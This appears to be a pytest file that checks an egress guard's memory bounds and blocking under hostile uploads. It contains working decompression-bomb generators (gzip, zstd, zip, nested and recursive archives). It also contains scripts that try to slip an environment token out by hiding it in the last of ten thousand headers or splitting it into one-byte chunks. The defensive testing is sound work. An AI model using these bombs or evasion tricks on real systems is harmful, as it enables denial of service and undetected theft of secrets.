"""Bodies made to cost the guard more than they cost their sender: bounded memory, and no pass that does not say what was not read."""

from __future__ import annotations

import functools
import gzip
import io
import json
import struct
import subprocess
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
import zstandard

from tests.attacks.programs import PYTHON
from tests.world import World
from tests.world.internet import API
from tests.world.servers import pattern
from tests.world.watch import PeakMemory, gate_of

APIS = (API, "2001:db8::10")
BOUND = 250 << 20  # bytes of resident memory the gate may take
PATIENCE = 240  # seconds; whoever loops for ever is found by it, a slow machine is not
MEGABYTE = 1 << 20
TEN_GIGABYTES = 10 << 30
ALLOW, DENY = "allow: [api.example.com]", "uninspectable: deny\nallow: [api.example.com]"


@dataclass
class Watched:
    """How a guarded command ended, and the highest resident size of its gate in bytes."""

    code: int
    stdout: str
    stderr: str
    peak: int
    report: dict
    exchanges: list[dict]


def watched(world: World, policy: str, command: list[str], *, env: dict[str, str]) -> Watched:
    directory = Path(tempfile.mkdtemp(dir=world.directory))
    (directory / "policy.yml").write_text(f"version: 1\n{policy}\n")
    options = ["--on-exfiltration", "fail", "--report", str(directory / "r"), "--policy", str(directory / "policy.yml")]
    run = subprocess.Popen(
        world.guard.entering(world.guard.command_line(options, command)),
        env=world.guard.environment(env),
        cwd="/",
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    memory = PeakMemory(gate_of(run))
    out, err = run.communicate(timeout=PATIENCE)
    events = [json.loads(line) for line in (directory / "r" / "events.jsonl").read_text().splitlines()]
    return Watched(
        run.returncode,
        out.decode(errors="replace"),
        err.decode(errors="replace"),
        memory.result(),
        json.loads((directory / "r" / "report.json").read_text()),
        [one for one in events if one["kind"] == "Exchange"],
    )


def upload(world: World, policy: str, data: bytes, secret: str, extra: tuple[str, ...] = ()) -> Watched:
    body = world.directory / "body"
    body.write_bytes(data)
    command = ["curl", "-sS", *extra, "--data-binary", f"@{body}", "https://api.example.com/up"]
    return watched(world, policy, command, env={"A_TOKEN": secret})


def assert_counted(outcome: Watched) -> None:
    assert outcome.code == 0, outcome.stderr
    (exchange,) = outcome.exchanges
    assert exchange["inspection"] == "partial"
    assert exchange["uninspected"]
    assert outcome.report["uninspected_bytes"] > 0
    assert outcome.peak < BOUND, f"{outcome.peak >> 20} MB"


def assert_kept_from_leaving(world: World, outcome: Watched) -> None:
    assert outcome.code == 90, outcome.stderr
    assert {one["reason"] for one in outcome.report["incidents"]} == {"uninspectable"}
    assert not any(request.complete for one in world.at(*APIS) for request in one.requests)
    assert outcome.peak < BOUND, f"{outcome.peak >> 20} MB"


# --- what becomes much more than it is ----------------------------------------------------------------------------


def _zeros(size: int, bits: int, before: bytes = b"") -> bytes:
    machine, block = zlib.compressobj(9, wbits=bits), bytes(MEGABYTE)
    blocks = b"".join(machine.compress(block) for _ in range(size // MEGABYTE))
    return machine.compress(before) + blocks + machine.flush()


def _gzip_bomb() -> bytes:
    """100 members of 100 MB each."""
    return _zeros(TEN_GIGABYTES // 100, 31) * 100


def _diluted_gzip_bomb() -> bytes:
    """The same with as much noise in each member as keeps it just below the highest ratio that is taken for honest."""
    return _zeros(TEN_GIGABYTES // 100, 31, pattern(8000)) * 100


def _zstd_bomb() -> bytes:
    """As many frames of 100 MB as fill 10 MB: 300 GB."""
    frame = zstandard.compress(bytes(TEN_GIGABYTES // 100))
    return frame * (10 * MEGABYTE // len(frame))


def _zip_bomb() -> bytes:
    """100 members, each by itself below every bound there is for one stream."""
    packed, size = _zeros(TEN_GIGABYTES // 100, -15, pattern(8000)), TEN_GIGABYTES // 100 + 8000
    head = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), size, 1, 0)
    return (head + b"x" + packed) * 100


def _within_itself(depth: int = 3) -> bytes:
    """Gzip of gzip of a bomb: each undoing makes a thousand times as much. Noise makes it large enough to be streamed."""
    data = _gzip_bomb()
    for _ in range(depth - 1):
        data = gzip.compress(data)
    return data + pattern(10 * MEGABYTE)


def _nested(depth: int = 50) -> bytes:
    data = pattern(5 * MEGABYTE // 4)
    for _ in range(depth):
        data = gzip.compress(data, 1)
    return data


def _recursive(depth: int = 20, copies: int = 3) -> bytes:
    """A zip archive of zip archives of ...: what it all holds doubles and trebles with each level."""
    data = pattern(1000)
    for _ in range(depth):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(copies):
                archive.writestr(f"{number}.zip", data)
        data = buffer.getvalue()
    return data + pattern(2 * MEGABYTE)


@functools.cache
def made(name: str) -> bytes:
    return BOMBS[name][0]()


def _coding(*names: str) -> tuple[str, ...]:
    return "-H", f"Content-Encoding: {', '.join(names)}"


BOMBS: dict[str, tuple[Callable[[], bytes], tuple[str, ...]]] = {
    "gzip, announced": (_gzip_bomb, _coding("gzip")),
    "gzip below the ratio": (_diluted_gzip_bomb, ()),
    "zstd": (_zstd_bomb, ()),
    "zstd, announced": (_zstd_bomb, _coding("zstd")),
    "zip": (_zip_bomb, ()),
    "gzip in gzip, announced": (_within_itself, _coding("gzip", "gzip", "gzip")),
    "nested 50 deep": (_nested, ()),
    "recursive archive": (_recursive, ()),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_counted_in_bounded_memory(world: World, name: str, secret: str) -> None:
    assert_counted(upload(world, ALLOW, made(name), secret, BOMBS[name][1]))


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_does_not_leave_where_the_policy_says_so(world: World, name: str, secret: str) -> None:
    assert_kept_from_leaving(world, upload(world, DENY, made(name), secret, BOMBS[name][1]))


# --- what is large as it is ---------------------------------------------------------------------------------------

_TWO_GIGABYTES = """
import hashlib, http.client, random, ssl
block, count = random.Random(1).randbytes(1 << 20), 2048
digest = hashlib.sha256()
def pieces():
    for number in range(count):
        piece = number.to_bytes(8, "big") + block[8:]
        digest.update(piece)
        yield piece
connection = http.client.HTTPSConnection("api.example.com", timeout=200, context=ssl.create_default_context())
connection.request("PUT", "/up", pieces(), {"Content-Length": str(count << 20)})
print(connection.getresponse().read().decode().split()[-2:] == [str(count << 20), digest.hexdigest()])
"""


def test_two_gigabytes(world: World, secret: str) -> None:
    outcome = watched(world, ALLOW, [PYTHON, "-c", _TWO_GIGABYTES], env={"A_TOKEN": secret})
    assert outcome.code == 0, outcome.stderr
    assert outcome.stdout == "True\n"
    (exchange,) = outcome.exchanges
    assert exchange["bytes_out"] > 2 << 30
    assert (exchange["inspection"], exchange["uninspected"]) == ("full", "")
    assert outcome.peak < BOUND, f"{outcome.peak >> 20} MB"


# --- what is in very many pieces ----------------------------------------------------------------------------------

_MANY_HEADERS = """
import os, socket, ssl, sys
count, size, place = map(int, sys.argv[1:])
lines = ["X-H%d: %s" % (number, "v" * size) for number in range(count)]
if place >= 0:
    lines[place] = "X-Token: " + os.environ["A_TOKEN"]
head = "\\r\\n".join(["GET /many HTTP/1.1", "Host: api.example.com", *lines, "", ""])
with ssl.create_default_context().wrap_socket(socket.create_connection(("api.example.com", 443)), server_hostname="api.example.com") as one:
    one.settimeout(200)
    try:
        one.sendall(head.encode())
        print(one.recv(65536).split(b"\\r\\n")[0].decode())
    except OSError as problem:
        print(type(problem).__name__)
"""


def many_headers(world: World, secret: str, *, count: int = 10_000, size: int, place: int = -1) -> Watched:
    command = [PYTHON, "-c", _MANY_HEADERS, str(count), str(size), str(place)]
    outcome = watched(world, ALLOW, command, env={"A_TOKEN": secret})
    assert outcome.peak < BOUND, f"{outcome.peak >> 20} MB"
    return outcome


def test_ten_thousand_headers(world: World, secret: str) -> None:
    outcome = many_headers(world, secret, size=8)
    assert outcome.code == 0, outcome.stderr
    assert outcome.stdout == "HTTP/1.1 200 OK\n"
    assert [one["inspection"] for one in outcome.exchanges] == ["full"]
    (request,) = [request for one in world.at(*APIS) for request in one.requests]
    assert len(request.headers) > 10_000


def test_a_secret_in_the_last_of_ten_thousand_headers(world: World, secret: str) -> None:
    outcome = many_headers(world, secret, size=8, place=9_999)
    assert outcome.code == 91, outcome.stderr
    assert secret.encode() not in world.received(*APIS)


def test_more_headers_than_are_read(world: World, secret: str) -> None:
    """Refused, and recorded: the connection was closed without a word once."""
    outcome = many_headers(world, secret, size=40)
    assert outcome.code == 90, outcome.stderr
    (exchange,) = outcome.exchanges
    assert (exchange["blocked"], exchange["inspection"]) == (True, "partial")
    assert exchange["decision"]["reason"] == "uninspectable"
    assert exchange["bytes_withheld"] > 1 << 18
    assert not world.at(*APIS)


_BYTE_BY_BYTE = """
import hashlib, os, socket, ssl, sys
body = (b"n%5d " * 4000 % tuple(range(4000)))[:20_000]
if sys.argv[2] == "leak":
    token = os.environ["A_TOKEN"].encode()
    body = body[:10_000] + token + body[10_000 + len(token):]
kind = sys.argv[1]
head = "POST /up HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Type: %s\\r\\nConnection: close\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" % kind
with ssl.create_default_context().wrap_socket(socket.create_connection(("api.example.com", 443)), server_hostname="api.example.com") as one:
    one.settimeout(200)
    try:
        one.sendall(head.encode())
        for byte in body:
            one.sendall(b"1\\r\\n%c\\r\\n" % byte)
        one.sendall(b"0\\r\\n\\r\\n")
        print(hashlib.sha256(body).hexdigest() in b"".join(iter(lambda: one.recv(65536), b"")).decode())
    except OSError as problem:
        print(type(problem).__name__)
"""


@pytest.mark.parametrize("kind", ["application/octet-stream", "application/x-ndjson"])
def test_twenty_thousand_chunks_of_a_byte(world: World, secret: str, kind: str) -> None:
    """Held as a whole; and passed on at once, to a peer that may be waiting for the next byte."""
    outcome = watched(world, ALLOW, [PYTHON, "-c", _BYTE_BY_BYTE, kind, "clean"], env={"A_TOKEN": secret})
    assert outcome.code == 0, outcome.stderr
    assert outcome.stdout == "True\n"
    assert [one["inspection"] for one in outcome.exchanges] == ["full"]
    assert outcome.peak < BOUND, f"{outcome.peak >> 20} MB"


@pytest.mark.parametrize("kind", ["application/octet-stream", "application/x-ndjson"])
def test_a_secret_over_chunks_of_a_byte(world: World, secret: str, kind: str) -> None:
    outcome = watched(world, ALLOW, [PYTHON, "-c", _BYTE_BY_BYTE, kind, "leak"], env={"A_TOKEN": secret})
    assert outcome.code == 91, outcome.stderr
    assert secret.encode()[:12] not in world.received(*APIS)
    assert not any(request.complete for one in world.at(*APIS) for request in one.requests)
    assert outcome.peak < BOUND, f"{outcome.peak >> 20} MB"
